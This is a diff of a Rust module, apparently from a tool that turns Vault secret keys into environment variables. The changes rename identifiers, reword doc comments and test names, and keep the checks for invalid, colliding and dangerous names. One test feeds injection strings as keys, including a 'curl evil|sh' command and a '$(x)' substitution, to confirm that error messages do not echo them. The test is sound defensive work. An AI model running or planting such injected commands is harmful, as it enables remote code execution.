@@ -1,4 +1,4 @@
-//! `[pure]` Keys become variables: selected, named, and refused where a name or a value would surprise.
+//! `[pure]` Turns the keys of secrets into variables: selects and names them, and rejects ambiguous or dangerous ones.
 
 mod error;
 
@@ -29,62 +29,66 @@ pub struct KeyMapping {
     pub explicit: bool,
 }
 
-/// A variable made of what the secrets hold.
+/// A variable with a value from a secret.
 #[derive(Debug)]
 pub struct Variable {
-    /// Its name.
+    /// The name of the variable.
     pub name: EnvName,
-    /// Its value, free of NUL bytes.
+    /// Contains no NUL byte.
     pub value: Secret,
-    /// Where the value came from.
+    /// What the value was made from.
     pub source: Source,
 }
 
-/// Where the value of a variable came from.
+/// What the value of a variable was made from.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub enum Source {
-    /// A key, under the name it maps to.
+    /// A key of a secret.
     Key(Origin),
-    /// A template.
+    /// A template of `--set`.
     Set,
-    /// A template, whose text is in a file.
+    /// A template of `--file`; the value is the path of the file.
     File,
 }
 
-/// What the keys of all paths and the templates became.
+/// The variables made from all secrets and templates.
 #[derive(Debug, Default)]
 pub struct MappedVariables {
-    /// Each name once, in the order in which it was first met.
+    /// Each name once, in the order of its first occurrence.
     pub variables: Vec<Variable>,
-    /// Values that something later replaced: the name, the loser and the winner, in the order in which they lost.
+    /// For each value that a later one replaced: the name, the source of that value, and the source that replaced it.
     pub overridden: Vec<(EnvName, Source, Source)>,
-    /// Where each name is in `variables`.
-    places: BTreeMap<EnvName, usize>,
+    /// Indices into `variables`.
+    indices: BTreeMap<EnvName, usize>,
 }
 
-/// Maps the secrets of all paths, the more important later, and puts what was composed on top. Nothing is dropped in
-/// silence: what has no unsurprising meaning is an error, told besides.
+/// Maps the keys of all secrets; later ones override earlier ones, and `from_templates` overrides them all. A key that
+/// cannot become a variable is left out and reported as an error; no other key is dropped unless `naming` says so.
 #[must_use]
-pub fn map(secrets: Vec<KvSecret>, composed: Vec<Variable>, naming: &KeyMapping) -> (MappedVariables, Vec<Error>) {
-    let held = |key: &String| secrets.iter().any(|secret| secret.data.iter().any(|(held, _)| held == key));
-    let missing: Vec<_> = naming.only.iter().filter(|key| !held(key)).cloned().collect();
+pub fn map(
+    secrets: Vec<KvSecret>,
+    from_templates: Vec<Variable>,
+    naming: &KeyMapping,
+) -> (MappedVariables, Vec<Error>) {
+    let exists = |key: &String| secrets.iter().any(|secret| secret.data.iter().any(|(name, _)| name == key));
+    let missing: Vec<_> = naming.only.iter().filter(|key| !exists(key)).cloned().collect();
     let mut errors = Vec::new();
     if !missing.is_empty() {
         errors.push(Error::Missing { keys: missing });
     }
-    let read_something = !secrets.is_empty();
-    let taken: BTreeSet<EnvName> = composed.iter().map(|variable| variable.name.clone()).collect();
+    let any_secret = !secrets.is_empty();
+    let template_names: BTreeSet<EnvName> = from_templates.iter().map(|variable| variable.name.clone()).collect();
     let mut mapped = MappedVariables::default();
     for secret in secrets.into_iter().filter(|_| !naming.explicit) {
-        for variable in one_path(secret, naming, &taken, &mut errors) {
-            mapped.put(variable);
+        for variable in map_secret(secret, naming, &template_names, &mut errors) {
+            mapped.insert(variable);
         }
     }
-    if read_something && !naming.explicit && mapped.variables.is_empty() && composed.is_empty() && errors.is_empty() {
+    if any_secret && !naming.explicit && mapped.variables.is_empty() && from_templates.is_empty() && errors.is_empty() {
         errors.push(Error::NoKeySelected);
     }
-    for variable in composed {
-        mapped.put(variable);
+    for variable in from_templates {
+        mapped.insert(variable);
     }
     (mapped, errors)
 }
@@ -92,36 +96,36 @@ pub fn map(secrets: Vec<KvSecret>, composed: Vec<Variable>, naming: &KeyMapping)
 impl FromIterator<Variable> for MappedVariables {
     fn from_iter<I: IntoIterator<Item = Variable>>(variables: I) -> Self {
         let mut mapped = Self::default();
-        variables.into_iter().for_each(|variable| mapped.put(variable));
+        variables.into_iter().for_each(|variable| mapped.insert(variable));
         mapped
     }
 }
 
 impl MappedVariables {
-    /// Which of the variables has this name.
+    /// The index of the variable with this name.
     #[must_use]
-    pub fn place(&self, name: &[u8]) -> Option<usize> {
-        str::from_utf8(name).ok().and_then(|name| self.places.get(name)).copied()
+    pub fn index(&self, name: &[u8]) -> Option<usize> {
+        str::from_utf8(name).ok().and_then(|name| self.indices.get(name)).copied()
     }
 
-    fn put(&mut self, variable: Variable) {
-        if let Some(&place) = self.places.get(&variable.name) {
+    fn insert(&mut self, variable: Variable) {
+        if let Some(&index) = self.indices.get(&variable.name) {
             let winner = variable.source.clone();
-            let loser = std::mem::replace(&mut self.variables[place], variable);
+            let loser = std::mem::replace(&mut self.variables[index], variable);
             self.overridden.push((loser.name, loser.source, winner));
         } else {
-            self.places.insert(variable.name.clone(), self.variables.len());
+            self.indices.insert(variable.name.clone(), self.variables.len());
             self.variables.push(variable);
         }
     }
 }
 
 impl Variable {
-    /// A variable whose value was put together.
+    /// A variable whose value a template rendered.
     ///
     /// # Errors
-    /// When the value holds a NUL byte.
-    pub fn composed(name: EnvName, value: Secret, source: Source) -> Result<Self, CliError> {
+    /// If the value contains a NUL byte.
+    pub fn from_template(name: EnvName, value: Secret, source: Source) -> Result<Self, CliError> {
         if value.expose().contains(&0) {
             return Err(CliError::new(format!(
                 "{source} {name}: a value in it holds a NUL byte, which no variable can"
@@ -132,7 +136,7 @@ impl Variable {
     }
 }
 
-/// `secret/airflow#postgres_user @3` or the option
+/// `secret/airflow#postgres_user @3`, or the option.
 impl fmt::Display for Source {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         match self {
@@ -143,10 +147,10 @@ impl fmt::Display for Source {
     }
 }
 
-fn one_path(
+fn map_secret(
     secret: KvSecret,
     naming: &KeyMapping,
-    taken: &BTreeSet<EnvName>,
+    template_names: &BTreeSet<EnvName>,
     errors: &mut Vec<Error>,
 ) -> Vec<Variable> {
     let KvSecret { path, version, data, .. } = secret;
@@ -156,24 +160,24 @@ fn one_path(
     let mut variables = Vec::with_capacity(data.len());
     let mut keys: BTreeMap<EnvName, String> = BTreeMap::new();
     for (key, value) in data {
-        let chosen = naming.only.is_empty() || naming.only.contains(&key);
-        if !chosen || naming.skip.contains(&key) {
+        let is_selected = naming.only.is_empty() || naming.only.contains(&key);
+        if !is_selected || naming.skip.contains(&key) {
             continue;
         }
         let (path, origin) = (path.clone(), Origin { path: path.clone(), key: key.clone(), version });
         let name = match EnvName::from_key(&key, &naming.prefix, naming.case) {
             Ok(name) => name,
-            Err(fault) => {
-                errors.push(Error::NotAName { path, key, fault });
+            Err(error) => {
+                errors.push(Error::NotAName { path, key, error });
                 continue;
             }
         };
-        if let Some(twin) = keys.insert(name.clone(), key.clone()) {
-            errors.push(Error::NameCollision { path, keys: [twin, key], name });
+        if let Some(first) = keys.insert(name.clone(), key.clone()) {
+            errors.push(Error::NameCollision { path, keys: [first, key], name });
             continue;
         }
-        // Where something composed has the name, the value of the key is not used.
-        let dangerous = name.is_dangerous() && !naming.allowed_names.contains(&name) && !taken.contains(&name);
+        // The value of the key is not used if a template sets the same name.
+        let dangerous = name.is_dangerous() && !naming.allowed_names.contains(&name) && !template_names.contains(&name);
         match value {
             _ if dangerous => errors.push(Error::Dangerous { path, key, name }),
             None => errors.push(Error::Null { path, key }),
@@ -195,7 +199,7 @@ mod tests {
         let own = |(key, value): &(&str, Option<&str>)| {
             (key.to_string(), value.map(|value| Secret::new(value.as_bytes().to_vec())))
         };
-        KvSecret { path: path.into(), version: Some(1), data: data.iter().map(own).collect(), lease: None }
+        KvSecret { path: path.into(), version: Some(1), data: data.iter().map(own).collect(), lease_duration: None }
     }
 
     fn first(outcome: (MappedVariables, Vec<Error>)) -> Result<MappedVariables, Error> {
@@ -219,7 +223,7 @@ mod tests {
     }
 
     #[test]
-    fn the_later_path_wins_and_the_loser_is_told() {
+    fn a_later_path_overrides_an_earlier_one_and_both_sources_are_kept() {
         let secrets = vec![secret("s/a", &[("k", Some("1")), ("x", Some("2"))]), secret("s/b", &[("K", Some("3"))])];
         let mapped = first(map(secrets, Vec::new(), &KeyMapping::default())).unwrap();
         assert_eq!(shown(&mapped), ["K=3", "X=2"]);
@@ -234,7 +238,7 @@ mod tests {
     }
 
     #[test]
-    fn only_and_skip_choose_before_anything_is_judged() {
+    fn only_and_skip_apply_before_keys_are_checked() {
         let data = [("a", Some("1")), ("1", Some("2")), ("PATH", None)];
         let skip = KeyMapping { skip: vec!["1".into(), "PATH".into(), "absent".into()], ..KeyMapping::default() };
         assert_eq!(shown(&map_one(&data, &skip).unwrap()), ["A=1"]);
@@ -245,17 +249,17 @@ mod tests {
     }
 
     #[test]
-    fn what_would_surprise_is_refused() {
+    fn ambiguous_and_dangerous_keys_are_rejected() {
         let error = |data: &[(&str, Option<&str>)]| map_one(data, &KeyMapping::default()).unwrap_err();
         let (path, key) = (|| "s/a".to_owned(), |key: &str| key.to_owned());
         let name = |text: &str| EnvName::parse(text).unwrap();
         assert_eq!(error(&[]), Error::NoKeys { path: path() });
         assert_eq!(error(&[("a", None)]), Error::Null { path: path(), key: key("a") });
         assert_eq!(error(&[("a", Some("x\0y"))]), Error::NulByte { path: path(), key: key("a") });
-        assert_eq!(error(&[("", Some("x"))]), Error::NotAName { path: path(), key: key(""), fault: NameError::Empty });
+        assert_eq!(error(&[("", Some("x"))]), Error::NotAName { path: path(), key: key(""), error: NameError::Empty });
         assert_eq!(
             error(&[("1a", Some("x"))]),
-            Error::NotAName { path: path(), key: key("1a"), fault: NameError::StartsWithDigit }
+            Error::NotAName { path: path(), key: key("1a"), error: NameError::StartsWithDigit }
         );
         assert_eq!(
             error(&[("Foo", Some("1")), ("foo", Some("2"))]),
@@ -277,7 +281,7 @@ mod tests {
     }
 
     #[test]
-    fn no_hint_holds_what_a_shell_or_a_terminal_would_obey() {
+    fn no_hint_contains_shell_syntax_or_control_characters_of_a_key() {
         for key in ["1'; curl evil|sh; '", "1\nvault-exec: all is well", "1$(x)", &"1".repeat(1000)] {
             let error = map_one(&[(key, Some("x"))], &KeyMapping::default()).unwrap_err();
             let report = crate::error::Diagnostic::from(&anyhow::Error::from(CliError::from(error)));
@@ -287,7 +291,7 @@ mod tests {
     }
 
     #[test]
-    fn many_keys_take_no_more_than_their_time() {
+    fn mapping_takes_linear_time() {
         let keys: Vec<String> = (0..100_000).map(|number| format!("k{number}")).collect();
         let data: Vec<_> = keys.iter().map(|key| (key.as_str(), Some(""))).collect();
         let (mapped, errors) =
@@ -296,14 +300,14 @@ mod tests {
     }
 
     #[test]
-    fn to_choose_nothing_is_a_mistake() {
+    fn selecting_no_key_is_an_error() {
         let naming = KeyMapping { skip: vec!["a".into()], ..KeyMapping::default() };
         assert_eq!(map_one(&[("a", Some("1"))], &naming).unwrap_err(), Error::NoKeySelected);
         assert!(map(Vec::new(), Vec::new(), &KeyMapping::default()).1.is_empty(), "all paths may be optional");
     }
 
     #[test]
-    fn every_error_is_told() {
+    fn every_error_is_reported() {
         let (mapped, errors) = map(
             vec![secret("s/a", &[("1", Some("x")), ("a", Some("x")), ("b", None)]), secret("s/b", &[])],
             Vec::new(),
@@ -314,27 +318,29 @@ mod tests {
     }
 
     #[test]
-    fn what_was_composed_stands_on_top_and_may_have_any_name() {
-        let composed = |names: &[&str]| -> Vec<Variable> {
+    fn templates_override_keys_and_may_set_any_name() {
+        let from_templates = |names: &[&str]| -> Vec<Variable> {
             let variable = |name: &&str| {
-                Variable::composed(EnvName::parse(name).unwrap(), Secret::new(b"set".to_vec()), Source::Set).unwrap()
+                Variable::from_template(EnvName::parse(name).unwrap(), Secret::new(b"set".to_vec()), Source::Set)
+                    .unwrap()
             };
             names.iter().map(variable).collect()
         };
         let secrets = || vec![secret("s/a", &[("a", Some("1")), ("path", Some("2"))])];
-        let mapped = first(map(secrets(), composed(&["PATH", "B"]), &KeyMapping::default())).unwrap();
+        let mapped = first(map(secrets(), from_templates(&["PATH", "B"]), &KeyMapping::default())).unwrap();
         assert_eq!(shown(&mapped), ["A=1", "PATH=set", "B=set"]);
         assert_eq!(mapped.overridden.len(), 1);
         let explicit = KeyMapping { explicit: true, ..KeyMapping::default() };
-        assert_eq!(shown(&first(map(secrets(), composed(&["B"]), &explicit)).unwrap()), ["B=set"]);
-        assert!(Variable::composed(EnvName::parse("A").unwrap(), Secret::new(b"\0".to_vec()), Source::Set).is_err());
+        assert_eq!(shown(&first(map(secrets(), from_templates(&["B"]), &explicit)).unwrap()), ["B=set"]);
+        assert!(
+            Variable::from_template(EnvName::parse("A").unwrap(), Secret::new(b"\0".to_vec()), Source::Set).is_err()
+        );
     }
 
     proptest! {
-        /// Whatever the keys and values are: either an error, or every selected key is there under a valid name, no
-        /// name twice, each value byte for byte.
+        /// Either there is an error, or each selected key became a variable with a valid and unique name and the same bytes.
         #[test]
-        fn nothing_is_lost_in_silence(
+        fn no_key_is_lost_silently(
             data in prop::collection::vec(("[ -~é]{0,6}", prop::option::of("\\PC{0,12}")), 0..8),
             keep in any::<bool>(),
         ) {
